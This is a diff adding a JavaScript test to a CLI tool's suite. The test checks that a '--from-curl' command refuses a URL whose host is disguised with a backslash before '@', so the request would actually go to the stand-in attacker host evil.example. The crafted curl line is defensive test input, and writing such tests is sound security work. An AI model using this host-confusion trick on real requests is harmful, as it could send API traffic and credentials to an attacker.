@@ -103,4 +103,14 @@ test('scrubber: a secret registered with its quotes masks the value, not the quo
   assert.match(parsed.you, /^\[REDACTED:/);
 });
 
+test('check --from-curl: a backslash before "@" in the host is refused naming the host curl would use, never masked', async () => {
+  // No key anywhere: even before the fix nothing could be sent off loopback.
+  const r = await runCli(['check', '--from-curl', "curl -G 'https://api.mashvisor.com\\@evil.example/v1.1/client/rental-rates' -d state=CA -d source=airbnb"], { cwd: dir });
+  assert.is(r.code, 2, r.stdout + r.stderr);
+  assert.match(r.stderr, /evil\.example/);
+  assert.not.match(r.stdout + r.stderr, /\/\/\[REDACTED|REDACTED[^ ]*\/@/);
+  assert.not.match(r.stderr, /\n\s+at /, 'no stack trace');
+  assert.equal(readdirSync(dir), [], 'no report written');
+});
+
 test.run();
